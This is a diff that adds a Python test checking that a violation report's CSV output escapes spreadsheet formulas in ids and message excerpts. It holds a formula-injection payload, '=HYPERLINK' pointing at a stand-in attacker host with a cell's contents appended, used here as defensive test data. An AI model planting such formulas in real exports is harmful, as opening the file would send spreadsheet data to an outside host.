@@ -216,6 +216,30 @@ def test_rejected_raw_text_of_mapped_rows_is_the_row_and_of_mapped_interactions_
     ]
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(ruleset: Any, tmp_path: Path) -> None:
+    # Customers paste card numbers after text that a spreadsheet would run (the excerpt is their message),
+    # in interactions whose ids are formulas too.
+    def pasted(ident: str, text: str) -> dict[str, Any]:
+        record = _email(1, 30)
+        record["events"][0]["text"] = f"{text} {CARD}"
+        return {**record, "id": ident}
+
+    data = _write_jsonl(tmp_path / "in.jsonl", [pasted("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")'), pasted("-2", "@SUM(A1:A9)")])
+    out = {fmt: tmp_path / f"v.{fmt}" for fmt in ("csv", "jsonl")}
+    check_files(ruleset, [data], sinks=[ViolationWriter.open(str(p)) for p in out.values()], as_of=AS_OF)
+    rows = list(csv.DictReader(io.StringIO(out["csv"].read_text(encoding="utf-8"))))
+    cards = {r["interaction_id"]: r for r in rows if r["rule_id"] == "privacy.card-number-in-message"}
+    assert set(cards) == {"'=1+1", "'-2"}
+    assert cards["'=1+1"]["excerpt"].startswith("'=HYPERLINK(")
+    assert cards["'-2"]["excerpt"].startswith("'@SUM(")
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    # JSON keeps the data as it is
+    jsonl = [json.loads(line) for line in out["jsonl"].read_text().splitlines()]
+    assert {v["interaction_id"] for v in jsonl} == {"=1+1", "-2"}
+    assert any((v["evidence"]["excerpt"] or "").startswith("=HYPERLINK(") for v in jsonl)
+
+
 def test_rejected_raw_text_of_csv_rows_json_elements_and_gzip(ruleset: Any, tmp_path: Path) -> None:
     (tmp_path / "a.csv").write_text("id,channel\nc1\nc2,email\n", encoding="utf-8")
     (tmp_path / "b.json").write_text('[\n  {"id": "j1"},\n  {bad}\n]\n', encoding="utf-8")
